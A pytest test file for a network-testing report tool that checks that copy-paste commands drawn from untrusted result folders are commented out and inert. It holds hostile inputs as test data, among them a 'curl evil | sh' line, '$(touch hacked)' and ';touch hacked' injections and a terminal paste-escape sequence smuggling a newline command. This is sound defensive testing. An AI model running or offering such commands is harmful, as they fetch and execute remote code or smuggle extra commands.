# SPDX-License-Identifier: GPL-3.0-or-later
"""Commands that the report offers for copying, out of folders of strangers."""

from __future__ import annotations

import shlex
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from flent_aqm.base.paths import resource_dir
from flent_aqm.results import status
from flent_aqm.show.report.commands import offered_command, purpose, sweep_command
from flent_aqm.show.report.model import Folder, build
from flent_aqm.show.report.read import read

OURS = "batches/aqm_sweep.batch"


@pytest.mark.parametrize("words", [
    ["flent", "-B", OURS],
    [".venv/bin/flent", "-B", OURS, "-b", "quick", "--batch-no-shuffle"],
    ["/usr/bin/flent", f"--batch-file={OURS}", "--batch-override", "aqm=fq_codel",
     "--batch-override=rate_mbps=50.5", "--batch-repetitions", "3"],
    ["flent", "-B", str(resource_dir("batches") / "rfc7928.batch"), "--batch-override",
     "aqm_target=10ms"],
])
def test_command_of_a_batch_of_ours_is_offered_as_it_was_typed(words: list[str]) -> None:
    """With the program found on PATH, not where a folder says."""
    about, command = sweep_command(words)
    assert about == "the sweep, as it was typed"
    assert shlex.split(command) == ["flent", *words[1:]]


@pytest.mark.parametrize("words", [
    [], ["sh", "-c", "touch hacked"], ["flent", "-B", "results/evil/aqm_sweep.batch"],
    ["flent", "-B", OURS, "--batch-override", "commands=evil"],
    ["flent", "-B", OURS, "--batch-override", "scheduler=tcp://192.0.2.1:8786"],
    ["flent", "-B", OURS, "--batch-override", "testbed=ssh://192.0.2.1"],
    ["flent", "-B", OURS, "--batch-override", "aqm=$(touch hacked)"],
    ["flent", "-B", OURS, "--rcfile", "evil"], ["flent", "-B", OURS, "ping"], ["flent", "-B"],
    ["flent", "-B", OURS, "-b", "quick\ntouch hacked\n"], ["flent\x1b[201~\ntouch hacked\n"],
    ["flent", "-B", OURS, ";touch", "hacked"], ["x" * 100_000]])
def test_other_command_is_one_line_that_a_shell_passes_over(
    words: list[str], tmp_path: Path
) -> None:
    """Whatever it has in it; pasted, nothing happens."""
    about, command = sweep_command(words)
    assert "look at it before you run it" in about
    assert command.startswith("# ")
    assert command.isprintable()
    assert len(command) < 600
    done = subprocess.run(["bash", "-i"], input=command + "\n", cwd=tmp_path, text=True,
                          capture_output=True, check=False, timeout=60)
    assert done.stdout == ""
    assert list(tmp_path.iterdir()) == []


def test_names_of_files_are_words_of_a_command_and_nothing_else() -> None:
    """Neither options, nor more commands, nor what steers a terminal."""
    assert shlex.split(offered_command("flent-aqm", "report", Path("-o"), Path("a b;c"))) == [
        "flent-aqm", "report", "./-o", "a b;c"]
    assert offered_command("flent-aqm", "report", Path("a\x1b[201~\nb")).startswith("# ")


def test_report_on_a_strangers_folder_offers_none_of_its_words(tmp_path: Path) -> None:
    """From the file to what the page gets."""
    status.write(tmp_path, status.Status(["sh", "-c", "curl evil | sh"], 1, 0, 0.0))
    report = build([], [], [Folder(tmp_path, 0, status.read(tmp_path))], "title")
    commands = [command for _, command in report.commands]
    assert commands[0] == "# sh -c 'curl evil | sh'"
    assert all(command.startswith(("# ", "flent-aqm ")) for command in commands)


@pytest.mark.parametrize("words", [
    ["flent", "-B", OURS], ["flent", f"--batch-file={OURS}", "-b", "x"],
    ["flent", "-B", str(resource_dir("batches") / Path(OURS).name)]])
def test_page_is_called_after_what_its_batch_is_for(words: list[str]) -> None:
    assert purpose(words) == ("How the queue at the bottleneck changes what speed tests report")


@pytest.mark.parametrize("words", [[], ["flent"], ["flent", "-B"], ["flent", "-B", "mine.batch"],
                                   ["flent", "-B", "results/evil/aqm_sweep.batch"]])
def test_other_batches_say_nothing_of_their_purpose(words: list[str]) -> None:
    assert purpose(words) == ""


@pytest.mark.parametrize(("text", "said"), [
    ("[Batch::try]\ntest_name = ndt7\nfor_aqm = sfq, codel\n", ""),
    ("test_name = ndt7 with sfq and codel at 20 Mbit/s\n", ""),
    ("# What our line does when two people call.\n[Batch::try]\nx = 1\n",
     "What our line does when two people call"),
    ("# What our line does\n# when two people call\n[Batch::try]\n",
     "What our line does when two people call")])
def test_purpose_is_a_comment_and_never_a_batchs_own_text(
    text: str, said: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A user's batch beside ours, whose first lines are settings."""
    (tmp_path / "mine.batch").write_text(text)
    monkeypatch.setattr("flent_aqm.show.report.commands.resource_dir", lambda _: tmp_path)
    assert purpose(["flent", "-B", "batches/mine.batch"]) == said


def test_each_batch_of_ours_says_its_purpose_in_one_sentence() -> None:
    purposes = {path.name: purpose(["flent", "-B", f"batches/{path.name}"])
                for path in resource_dir("batches").glob("*.batch")}
    assert all(20 <= len(one) < 130 and "docs/" not in one for one in purposes.values()), purposes


def test_glitch_is_offered_with_the_command_that_explains_it() -> None:
    """Of the run that has most; not of runs without glitches, and not of those that can't be
    repeated."""
    golden = Path(__file__).parents[2] / "golden" / "batches" / "quick"
    rows, _, _ = read([golden], 1)
    offered = [command for _, command in build(rows, [], [], "title").commands
               if " why " in command]
    most = max(rows, key=lambda row: row.metrics.get("glitches_per_minute_30ms", 0))
    assert offered == [offered_command("flent-aqm", "why", most.path, "--glitch", "1")]
    calm = [row for row in rows if not row.metrics.get("glitches_per_minute_30ms")]
    elsewhere = [replace(row, settings={**row.settings, "testbed": "netns"}) for row in rows]
    assert calm
    for some in (calm, elsewhere):
        assert not [command for _, command in build(some, [], [], "title").commands
                    if " why " in command]
